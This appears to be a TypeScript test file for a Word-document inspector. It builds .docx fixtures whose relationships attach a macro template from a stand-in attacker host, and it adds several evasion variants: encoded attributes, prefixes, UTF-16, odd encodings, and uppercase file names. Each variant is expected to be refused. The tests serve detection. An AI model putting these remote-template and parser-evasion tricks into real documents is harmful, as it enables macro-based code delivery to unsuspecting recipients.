import { strToU8 } from "fflate";
import { expect, it } from "vitest";
import { aWord } from "#tests/word-files.ts";
import { inspectWord } from "./inspect-word.ts";

const PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships";
const TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";
const body = "<w:p><w:r><w:t>Plan</w:t></w:r></w:p>";
const one = (target: string, more = 'TargetMode="External"', tag = "Relationship") =>
  `<${tag} Id="r1" Type="${TEMPLATE}" Target="${target}" ${more}/>`;
const whole = (inside: string) => `<Relationships xmlns="${PACKAGE}">${inside}</Relationships>`;
const part = (bytes: Uint8Array, name = "word/_rels/settings.xml.rels") => aWord(body, { parts: { [name]: bytes } });
const evil = "http://kwaad.example/t.dotm";

/** A template from elsewhere, written so that a careless reader does not see it. */
const hidden: [string, Buffer][] = [
  ["an address that ends as a link does", part(strToU8(whole(one(`${evil}/relationships/hyperlink`))))],
  ["a sign in a code", part(strToU8(whole(one(evil, 'TargetMode="&#69;xternal"'))))],
  ["a bracket in a value", part(strToU8(whole(one(`${evil}?a>b`))))],
  [
    "a prefix",
    part(
      strToU8(
        `<p:Relationships xmlns:p="${PACKAGE}">${one(evil, 'TargetMode="External"', "p:Relationship")}</p:Relationships>`,
      ),
    ),
  ],
  [
    "two bytes for a sign",
    part(Buffer.from(`\uFEFF<?xml version="1.0" encoding="UTF-16"?>${whole(one(evil))}`, "utf16le")),
  ],
  ["capitals in its name", part(strToU8(whole(one(evil))), "word/_rels/settings.xml.RELS")],
  [
    "a declaration in two bytes",
    part(Buffer.from('\uFEFF<!DOCTYPE a [<!ENTITY a "b">]><a/>', "utf16le"), "word/a.xml"),
  ],
  ["another encoding", part(strToU8(`<?xml version="1.0" encoding="IBM037"?>${whole("")}`))],
  ["no XML at all", part(strToU8("<Relationships"))],
];

it.each(hidden)("F04 a template from elsewhere is refused: %s", (_, bytes) => {
  expect(inspectWord(bytes)).toEqual({ ok: false, fault: "active" });
});

it("F04 a document with relations of its own comes in", () => {
  const head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n';
  expect(inspectWord(part(strToU8(head + whole(one("styles.xml", "")))))).toEqual({ ok: true });
});
